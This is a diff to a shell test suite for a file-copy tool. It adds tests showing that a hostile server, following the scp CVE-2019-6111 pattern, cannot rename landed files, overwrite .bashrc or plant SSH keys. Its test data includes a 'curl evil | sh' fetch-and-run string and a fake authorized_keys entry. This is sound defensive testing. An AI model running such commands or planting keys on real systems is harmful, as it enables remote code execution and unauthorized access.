@@ -112,6 +112,10 @@ err$' "$(cat "$D/err")"
 	t_eq "$tr: a single file down under a new name" new "$(cat "$D/fetched")"
 	t_exit "$tr: a missing remote source fails" 1 slc cp "${C[@]}" :/missing "$D/x"
 	t_match "$tr: ... and says so" "'/missing'.*No such file" "$(slc cp "${C[@]}" :/missing "$D/x" 2>&1)"
+	t_exit "$tr: a missing source into a new DST/ fails" 1 slc cp "${C[@]}" :/missing "$D/back2/deep/"
+	t_eq "$tr: ... and leaves no empty directory behind" "" "$(ls -d "$D/back2" 2>/dev/null)"
+	slc cp "${C[@]}" :/missing "$D/down/" 2>/dev/null
+	t_eq "$tr: ... but keeps a directory that was there" yes "$([ -d "$D/down" ] && echo yes)"
 	kill "$srv"
 	wait "$srv"
 	t_eq "$tr: server exits 0 on SIGTERM" 0 $?
@@ -169,8 +173,47 @@ t_match "... and is reported" "'bad': digest mismatch" "$(cat "$D/evil.digest")"
 t_eq "hostile server dies mid-file: no partial file" "" "$(ls -A "$D/dest" | grep -x die; find "$D/dest" -name '.slc-*')"
 t_match "... and the client says the connection was lost" "connection lost" "$(cat "$D/evil.die")"
 
+# A hostile server does not choose the landed name (audit 1, the scp
+# CVE-2019-6111 pattern): into a directory, the top lands under the name of
+# the remote path asked for, and directories the client had keep their mode.
+evil() { # MODE SRC DST [TARGET]: runs one hostile exchange, output in $D/evil.MODE
+	t_bg slc_evil "$1" "$D/evil.sock" "${4:-$D/outside}"
+	t_wait_sock "$D/evil.sock"
+	timeout 20 slc cp -c "unix:$D/evil.sock" --insecure "$2" "$3" >"$D/evil.$1" 2>&1
+	echo $? >"$D/evil.$1.rc"
+	wait $T_LAST_PID 2>/dev/null
+}
+H=$D/home
+mkdir -p "$H/x/sub"
+printf 'original\n' >"$H/.bashrc"
+chmod 0700 "$H/x" "$H/x/sub"
+touch -d '2004-04-04 04:04:04' "$H/x"
+evil rename :/var/log/app.log "$H"
+t_eq "hostile server: the top lands under the name asked for" "curl evil | sh" "$(cat "$H/app.log" 2>/dev/null)"
+t_eq "... not under the server's name" original "$(cat "$H/.bashrc")"
+evil rename :/var/log/app.log "$H/"
+t_eq "... also with DST/" original "$(cat "$H/.bashrc")"
+evil abstop :/y "$H" "$D/outside/abs"
+t_match "hostile server: an absolute top name is a protocol error" "ENTRY: bad name" "$(cat "$D/evil.abstop")"
+t_eq "... and lands nothing" "" "$(ls -A "$D/outside"; ls "$H" | grep -v -x -e x -e app.log)"
+evil chmod :/x "$H"
+t_eq "hostile server: merged into an existing directory, under the name asked for" \
+	"ssh-ed25519 AAAA evil" "$(cat "$H/x/authorized_keys" 2>/dev/null)"
+t_eq "... which keeps its mode, not the sender's mtime (1970)" "700 no" \
+	"$(stat -c %a "$H/x") $([ "$(date -r "$H/x" +%Y)" = 1970 ] && echo yes || echo no)"
+t_eq "... and so does an existing directory inside it" 700 "$(stat -c %a "$H/x/sub")"
+t_eq "... no directory under the server's name" "" "$(ls -d "$H/ssh" 2>/dev/null)"
+rm -rf "$D/newx"
+evil chmod :/x "$D/newx"
+t_eq "a directory the copy made takes the sender's mode" 777 "$(stat -c %a "$D/newx" 2>/dev/null)"
+t0=$(date +%s)
+evil hole :/h "$D/hole"
+t_eq "hostile server: a 2^62-byte hole costs no hashing (audit 6)" yes \
+	"$([ "$(cat "$D/evil.hole.rc")" != 124 ] && [ $(($(date +%s) - t0)) -lt 10 ] && echo yes)"
+rm -f "$D/hole"
+
 # Bad input to the server: it answers with an error and keeps serving.
-hello='SLCc\x00\x01\x00\x01'
+hello='SLCc\x00\x02\x00\x01'
 zeros=$(printf '%064d' 0 | sed 's/0/\\x00/g')
 bad() { printf "$hello$zeros$1" | socat -t 1 - "UNIX-CONNECT:$D/r.sock" 2>/dev/null | od -An -c | tr -d ' \n'; }
 t_match "oversized record: EPROTO error" "recordlength" "$(bad '\xff\xff\xff\xff')"
@@ -252,7 +295,7 @@ t_bg slc listen --listen "unix:$D/h.sock" --root "$R" --key "$D/keys/server" \
 	--authorized-keys "$D/keys/authorized" --handshake-timeout 300ms
 t_wait_sock "$D/h.sock"
 t0=$(date +%s%N)
-(printf 'SLCc\x00\x01\x00\x00'; head -c 64 /dev/urandom; sleep 3) |
+(printf 'SLCc\x00\x02\x00\x00'; head -c 64 /dev/urandom; sleep 3) |
 	(socat -t 0.2 - "UNIX-CONNECT:$D/h.sock" >/dev/null 2>&1; date +%s%N >"$D/hs.end")
 t_eq "a client that never authenticates is dropped after --handshake-timeout" yes \
 	"$([ $(($(cat "$D/hs.end") - t0)) -lt 2000000000 ] && echo yes)"
